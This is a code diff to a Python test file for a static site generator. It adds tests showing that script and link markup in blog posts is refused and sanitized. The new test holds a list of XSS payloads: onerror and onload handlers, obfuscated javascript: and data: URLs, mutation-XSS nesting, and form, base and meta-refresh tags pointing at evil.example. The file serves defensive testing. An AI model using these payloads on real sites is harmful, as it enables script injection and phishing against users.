@@ -8,6 +8,7 @@ validation would still print as text: the last tests switch validation off to sh
 from __future__ import annotations
 
 import contextlib
+import html
 import io
 import re
 from pathlib import Path
@@ -175,14 +176,14 @@ def test_ampersands_are_names_and_are_shown_escaped(content: Path, tmp_path: Pat
     code, report = run("--content", str(content), "check", str(post))
     assert code == 0, report
     assert build(content, tmp_path) is None
-    html = (tmp_path / "output/posts/pandera-rating-schema-checks/index.html").read_text("utf-8")
-    soup = BeautifulSoup(html, "html.parser")
+    page = (tmp_path / "output/posts/pandera-rating-schema-checks/index.html").read_text("utf-8")
+    soup = BeautifulSoup(page, "html.parser")
     tags = [a.get_text() for a in soup.select("ul.tag-list a.tag")]
     assert tags == ["R&D", "AT&T", "&lt;b&gt;"]
-    assert "R&amp;D" in html and "&amp;lt;b&amp;gt;" in html
-    # Filter values for Pagefind are escaped once more (its UI renders them as HTML).
+    assert "R&amp;D" in page and "&amp;lt;b&amp;gt;" in page
+    # Filter values for Pagefind are escaped twice more (see anthology/site/filters.py).
     filters = [s.get_text() for s in soup.select('[data-pagefind-filter="tag"]')]
-    assert filters == ["R&amp;D", "AT&amp;T", "&amp;lt;b&amp;gt;"]
+    assert filters == [html.escape(html.escape(t)) for t in ("R&D", "AT&T", "&lt;b&gt;")]
 
 
 CSV = "Student,Tool,Blog post link,Semester\n{rows}"
@@ -277,3 +278,54 @@ def test_templates_print_unvalidated_values_as_text(content: Path, tmp_path: Pat
     hrefs = [a["href"] for a in tool.find_all("a", href=True)]
     assert not [h for h in hrefs if "javascript" in h.lower()]
     assert not tool.find("a", string="Project homepage")
+
+
+# ---- Markup in a post's body: the gate refuses it, the build's nh3 allow-list drops it. ----
+
+BODY_PAYLOADS = [
+    "<img src=x onerror=alert(1)>",
+    "<IMG SRC=x OnError=alert(1)>",
+    "<svg onload=alert(1)><circle r=1 /></svg>",
+    "<svg><script>alert(1)</script></svg>",
+    '<iframe src="https://evil.example"></iframe>',
+    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
+    "<details open ontoggle=alert(1)><summary>x</summary></details>",
+    '<a href="JaVaScRiPt:alert(1)">x</a>',
+    '<a href=" &#14; javascript:alert(1)">x</a>',
+    '<a href="jav&#x09;ascript:alert(1)">x</a>',
+    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>',
+    "[x](JaVaScRiPt:alert(1))",
+    "[x](javascript&#58;alert(1))",
+    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "[x](VBScript:msgbox(1))",
+    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
+    '<a href="https://example.org/" style="position:fixed;inset:0">x</a>',
+    "<style>body{display:none}</style>",
+    "<form action=https://evil.example><input name=p></form>",
+    "<object data=https://evil.example/x.swf></object>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
+    "<base href=https://evil.example/>",
+    '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
+]
+
+
+@pytest.mark.parametrize("payload", BODY_PAYLOADS)
+def test_markup_in_a_post_body_is_refused_and_never_runs(
+    content: Path, tmp_path: Path, payload: str
+) -> None:
+    post = content / "posts" / "F2026" / "welcome-fall-2026.md"
+    post.write_text(post.read_text(encoding="utf-8") + f"\n\n{payload}\n", encoding="utf-8")
+    code, report = run("--content", str(content), "check", str(post))
+    assert code == 1, report
+    assert build(content, tmp_path) is None  # the build drops what the gate refuses
+    page = (tmp_path / "output/posts/welcome-fall-2026/index.html").read_text(encoding="utf-8")
+    body = BeautifulSoup(page, "html.parser").select_one(".prose")
+    assert body is not None
+    assert not body.find_all(
+        ["script", "style", "iframe", "svg", "math", "object", "form", "base", "meta", "input"]
+    )
+    for tag in body.find_all(True):
+        assert not [a for a in tag.attrs if a.startswith("on") or a in ("style", "srcdoc")], tag
+        for name in ("href", "src", "action", "data"):
+            value = re.sub(r"[\x00-\x20]", "", str(tag.get(name, ""))).lower()
+            assert not value.startswith(("javascript:", "data:", "vbscript:")), tag
